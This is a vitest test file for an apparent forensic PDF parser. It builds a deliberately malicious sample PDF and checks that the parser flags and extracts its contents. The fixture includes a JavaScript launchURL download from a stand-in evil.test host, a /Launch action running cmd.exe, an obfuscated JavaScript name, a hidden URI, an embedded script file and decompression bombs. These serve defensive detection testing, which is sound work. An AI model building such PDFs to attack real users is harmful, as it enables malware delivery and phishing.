import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { fuzz, linesOf, takenOf } from '../../../../test/harness/evidence/fuzz.ts'
import { formats } from '../formats.ts'
import { budgetOf } from '../reader/budget.ts'
import { dateOf, pdf } from './pdf.ts'
import { readValue } from './tokens.ts'

const stream = (map: string, bytes: Buffer) =>
  Buffer.concat([Buffer.from(`<< ${map} /Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from('\nendstream')])

/** A document as its objects say, with a table that readers of the table can follow. */
function makePdf(objects: (string | Buffer)[], trailer = '/Root 1 0 R'): Buffer {
  const pieces = [Buffer.from('%PDF-1.7\n')]
  const places: number[] = []
  for (const [index, object] of objects.entries()) {
    places.push(pieces.reduce((sum, each) => sum + each.length, 0))
    pieces.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'))
  }
  const table = pieces.reduce((sum, each) => sum + each.length, 0)
  const lines = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  pieces.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${table}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(pieces)
}

const script = 'app.launchURL("http://evil.test/x.exe", true);'
const hidden = '<< /S /URI /URI (https://hidden.evil.test/) >>'
const document = makePdf(
  [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS 4 0 R >> /Names << /EmbeddedFiles 6 0 R >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /Annots [ << /A << /S /URI /URI (https://bank.evil.test/\\(login\\)) >> >> << /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >> ] >>',
    stream('/Filter /FlateDecode', deflateSync(Buffer.from(script))),
    "<< /Title <FEFF00DC00620065007200770065006900730075006E0067> /Author (Mallory) /Producer (Writer) /CreationDate (D:20260301083000+01'00') >>",
    '<< /Names [(a) << /Type /Filespec /UF (invoice.js) /EF << /F 7 0 R >> >>] >>',
    stream('/Type /EmbeddedFile /Filter /FlateDecode /Params << /Size 11 >>', deflateSync(Buffer.from('alert("hi")'))),
    stream('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', deflateSync(Buffer.from(`20 0 ${hidden}`))),
  ],
  '/Root 1 0 R /Info 5 0 R',
)
const details = (lines: Awaited<ReturnType<typeof linesOf>>) =>
  lines.flatMap((line) => (line.kind === 'warning' ? [line.detail] : []))

describe('a PDF document', () => {
  it('tells what it does, however it hides it', async () => {
    const lines = await linesOf(formats, document)
    expect(lines.filter(({ kind }) => kind === 'refused')).toEqual([])
    expect(lines[0]).toMatchObject({
      title: 'PDF document: Überweisung',
      facts: expect.arrayContaining([
        { name: 'version of PDF', value: '1.7' },
        { name: 'author', value: 'Mallory' },
        { name: 'pages', value: '1' },
      ]),
    })
    expect(details(lines)).toEqual([
      'The document does something when it is opened (/OpenAction).',
      'The document holds a script (/JS).',
      'The document starts a program (/Launch).',
      'The document holds a file (/EmbeddedFile).',
      'It starts: cmd.exe cmd.exe /c calc.',
    ])
    expect(lines).toContainEqual({
      kind: 'row',
      table: 'scripts',
      cells: { code: script },
      at: { offset: document.indexOf('4 0 obj'), path: 'object 4' },
    })
    expect(lines.flatMap((line) => (line.kind === 'observable' ? [line.value] : []))).toEqual([
      'http://evil.test/x.exe',
      'https://bank.evil.test/(login)',
      'https://hidden.evil.test/',
    ])
    expect(lines.find((line) => line.kind === 'event')).toMatchObject({ time: '2026-03-01T07:30:00.000Z' })
    const child = lines.find((line) => line.kind === 'child')!
    expect(child).toMatchObject({ name: 'invoice.js', size: 11 })
    expect(String(await takenOf(pdf, document, child.ref!))).toBe('alert("hi")')
  })

  it('is read where its table is broken or something stands before it, and refused where nothing is left', async () => {
    const broken = Buffer.concat([Buffer.from('junk\n'), document.subarray(0, document.indexOf('xref\n0'))])
    expect(details(await linesOf(formats, broken))).toContain('The document holds a script (/JS).')
    expect((await linesOf(formats, Buffer.from('%PDF-1.4\n'))).at(-1)).toMatchObject({
      kind: 'refused',
      reason: 'damaged',
    })
    const locked = await linesOf(
      formats,
      makePdf(['<< /Type /Catalog >>', '<< /Filter /Standard >>'], '/Root 1 0 R /Encrypt 2 0 R'),
    )
    expect(locked.at(-1)).toMatchObject({ kind: 'refused', reason: 'encrypted' })
  })

  it('stops at bombs', async () => {
    const bomb = deflateSync(Buffer.alloc(40_000_000))
    const one = await linesOf(
      formats,
      makePdf([
        '<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>',
        stream('/Filter /FlateDecode', bomb),
      ]),
    )
    expect(details(one)).toContainEqual(expect.stringMatching(/unpacks to more than/))
    const twice = await linesOf(
      formats,
      makePdf(['<< /JS 2 0 R >>', stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(bomb))]),
    )
    expect(details(twice)).toContainEqual(expect.stringMatching(/unpacks to more than/))
    const deep = await linesOf(formats, makePdf([`<< /A ${'['.repeat(100_000)} >>`, `${'<< /A '.repeat(50_000)}`]))
    expect(deep[0]).toMatchObject({ kind: 'summary' })
  })

  it.each([
    ['(a\\(b\\)\\101\\n(c))', 'a(b)A\n(c)'],
    ['<48 65 6C6c 6F>', 'Hello'],
    ['(never ends', 'never ends'],
  ])('reads the text %s', (text, expected) => {
    const value = readValue({ bytes: Buffer.from(text), at: 0, budget: budgetOf() })
    expect(value?.is === 'text' ? String(value.bytes) : value).toBe(expected)
  })

  it.each([
    ["D:20260301083000+01'00'", '2026-03-01T07:30:00.000Z'],
    ['D:2026', '2026-01-01T00:00:00.000Z'],
    ['20260301Z', '2026-03-01T00:00:00.000Z'],
    ['D:20269999', undefined],
    ['soon', undefined],
  ])('reads the date %s', (text, expected) => expect(dateOf(text)).toBe(expected))

  it.skipIf(!existsSync('/usr/bin/exiftool'))('is read as exiftool reads it, where that is installed', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'pdf-'))
    writeFileSync(join(folder, 'a.pdf'), document)
    const [theirs] = JSON.parse(execFileSync('exiftool', ['-j', join(folder, 'a.pdf')], { encoding: 'utf8' }))
    rmSync(folder, { recursive: true })
    const [first] = await linesOf(formats, document)
    const facts = new Map(first?.kind === 'summary' ? first.facts.map(({ name, value }) => [name, value]) : [])
    expect([
      facts.get('title'),
      facts.get('author'),
      facts.get('written by'),
      Number(facts.get('pages')),
      facts.get('version of PDF'),
    ]).toEqual([theirs.Title, theirs.Author, theirs.Producer, theirs.PageCount, String(theirs.PDFVersion)])
  })

  it('bears mutated documents', async () => {
    const { faults, rounds, slowestMs } = await fuzz(pdf, [document])
    expect(faults).toEqual([])
    expect(rounds).toBeGreaterThan(100)
    expect(slowestMs).toBeLessThan(1500)
  })
})
